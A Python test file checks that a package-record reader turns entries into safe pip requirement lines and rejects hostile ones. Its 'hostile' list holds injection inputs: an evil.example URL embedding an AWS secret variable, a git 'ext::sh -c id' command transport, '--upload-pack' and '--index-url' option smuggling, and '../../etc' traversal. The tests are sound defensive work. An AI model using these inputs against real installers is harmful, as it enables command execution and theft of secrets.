"""What a record may make an installer do: install names, versions and addresses, no more."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from repro.errors import DamagedRecordError
from repro.model.requirements import Kind, Lacking, Requirement, Requirements, read_requirements

COMMIT = "0123456789abcdef0123456789abcdef01234567"
HASH = "sha256:" + "a" * 64
SAFE = re.compile(
    r"[A-Za-z0-9][A-Za-z0-9._-]*(==[A-Za-z0-9.!+_-]+| @ \S+)( --hash=sha\d+:[0-9a-f]+)*"
)


def read(*entries: object, hashes: dict | None = None) -> Requirements:
    return read_requirements({"packages": {"list": list(entries)}}, hashes or {})


def entry(**origin: object) -> dict[str, object]:
    return {"name": "foo", "version": "1.0", "origin": origin}


def test_names_are_normalised_and_sorted_and_the_first_wins() -> None:
    found = read(
        {"name": "Foo_Bar", "version": "1.0"},
        {"name": "abc", "version": "2.14.1+cpu"},
        {"name": "foo.bar", "version": "3.0"},
    )

    assert [one.line for one in found.wanted] == ["abc==2.14.1+cpu", "foo-bar==1.0"]
    assert found.unusable == ()


@pytest.mark.parametrize(
    ("origin", "kind", "line"),
    [
        (
            {"url": "https://github.com/x/y", "vcs": "git", "commit": COMMIT, "revision": "main"},
            Kind.VCS,
            f"foo @ git+https://github.com/x/y@{COMMIT}",
        ),
        (
            {"url": "https://<redacted>@h.example/y", "vcs": "git", "commit": COMMIT},
            Kind.VCS,
            f"foo @ git+https://h.example/y@{COMMIT}",
        ),
        (
            {"url": "https://h/y", "vcs": "git", "commit": COMMIT, "subdirectory": "a/b"},
            Kind.VCS,
            f"foo @ git+https://h/y@{COMMIT}#subdirectory=a/b",
        ),
        (
            {"url": "https://h.example/foo-1.0.tar.gz", "hash": HASH},
            Kind.ARCHIVE,
            f"foo @ https://h.example/foo-1.0.tar.gz --hash={HASH}",
        ),
        (
            {"url": "file:///home/a b/foo-1.0-py3-none-any.whl"},
            Kind.LOCAL,
            "foo @ file:///home/a%20b/foo-1.0-py3-none-any.whl",
        ),
        (
            {"url": "file:///srv/y", "vcs": "git", "commit": COMMIT},
            Kind.VCS,
            f"git+file:///srv/y@{COMMIT}#egg=foo",
        ),
    ],
)
def test_what_comes_from_elsewhere_is_foreign(origin: dict, kind: Kind, line: str) -> None:
    (found,) = read(entry(**origin)).wanted

    assert found.kind is kind
    assert found.is_foreign
    assert found.line == line


def test_editables_and_our_own_come_from_nowhere() -> None:
    found = read(
        {"name": "git-repro", "version": "0.1.0", "origin": {"url": "file:///x", "editable": True}},
        entry(path=".", editable=True),
    )

    assert [one.kind for one in found.wanted] == [Kind.EDITABLE, Kind.OWN]
    assert not any(one.is_foreign for one in found.wanted)


def test_hashes_are_those_of_the_very_version() -> None:
    known = {("foo", "1.0"): (HASH, "md5:1", "sha256:x --index-url=y"), ("foo", "2.0"): ("no",)}

    (found,) = read({"name": "foo", "version": "1.0"}, hashes=known).wanted

    assert found.hashes == (HASH,)
    assert found.line == f"foo==1.0 --hash={HASH}"


@pytest.mark.parametrize(
    "hostile",
    [
        {"name": "--index-url=https://evil.example", "version": "1.0"},
        {"name": "-r", "version": "1.0"},
        {"name": "foo bar", "version": "1.0"},
        {"name": "foo\n--index-url=x", "version": "1.0"},
        {"name": "foo[extra]", "version": "1.0"},
        {"name": "foo;python_version>'1'", "version": "1.0"},
        {"name": "a" * 300, "version": "1.0"},
        {"name": 3, "version": "1.0"},
        {"name": "foo", "version": "1.0 --pre"},
        {"name": "foo", "version": "1.0\n-e ."},
        {"name": "foo", "version": "*"},
        {"name": "foo", "version": "1.*"},
        {"name": "foo", "version": ""},
        {"name": "foo", "version": "1.0,>0"},
        {"name": "foo", "version": "-1"},
        {"name": "foo"},
        "foo",
        None,
        entry(url="https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl"),
        entry(url="https://evil.example/a.whl --index-url=x"),
        entry(url="https://evil.example/a.whl\n-e ."),
        entry(url="https://evil.example/a.whl;x"),
        entry(url="https://<redacted>@h.example/?token=<redacted>"),
        entry(url="ext::sh -c id", vcs="git", commit=COMMIT),
        entry(url="--upload-pack=x", vcs="git", commit=COMMIT),
        entry(url="https://h/y", vcs="git", commit="--upload-pack=x"),
        entry(url="https://h/y", vcs="git"),
        entry(url="https://h/y", vcs="hg", commit=COMMIT),
        entry(url="ftp://h/foo-1.0.tar.gz"),
        entry(url="x" * 5000),
        entry(url="file://[x/foo-1.0.tar.gz"),
        entry(url="https://[x/foo-1.0.tar.gz"),
        entry(url="https://[x/y", vcs="git", commit=COMMIT),
        entry(url=3),
        entry(path="../../etc"),
        entry(path=" "),
    ],
)
def test_what_could_be_more_than_it_says_is_listed_and_not_used(hostile: object) -> None:
    found = read(hostile)

    assert found.wanted == ()
    assert len(found.unusable) == 1
    assert "\n" not in str(found.unusable[0])
    assert len(str(found.unusable[0])) < 400


def test_a_subdirectory_that_leads_out_is_not_followed() -> None:
    origin = {"url": "https://h/y", "vcs": "git", "commit": COMMIT, "subdirectory": "../x"}

    (found,) = read(entry(**origin)).wanted

    assert found.line == f"foo @ git+https://h/y@{COMMIT}"


@pytest.mark.parametrize(
    "environment",
    [{}, {"packages": {}}, {"packages": {"list": "x"}}, {"packages": {"list": [], "error": "x"}}],
)
def test_an_environment_without_packages_is_an_error(environment: dict) -> None:
    with pytest.raises(DamagedRecordError):
        read_requirements(environment, {})


texts = st.text(max_size=30) | st.sampled_from(["foo", "1.0", "git", "https://h/y", COMMIT, HASH])
origins = st.dictionaries(
    st.sampled_from(["url", "vcs", "commit", "hash", "subdirectory", "path"]), texts
)
entries = st.fixed_dictionaries({"name": texts, "version": texts}, optional={"origin": origins})


@given(st.lists(entries, max_size=4))
@example([{"name": "0", "version": "0", "origin": {"url": "", "path": " "}}])
@example([{"name": "0", "version": "0", "origin": {"path": "my code; -r x #y"}}])
def test_every_line_is_one_requirement(listed: list[dict]) -> None:
    for one in read(*listed).wanted:
        if one.kind is not Kind.OWN:
            assert SAFE.fullmatch(one.line), one.line


def test_an_item_is_one_line_that_says_what_why_and_what_else() -> None:
    assert str(Lacking("foo", "1.0", "gone", "1.1")) == "foo 1.0: gone; the nearest is 1.1"
    assert str(Lacking("a\x1b[2J", "", "odd\nname")) == "a\\x1b[2J: odd\\nname"
    assert Requirement("foo", "1.0").line == "foo==1.0"
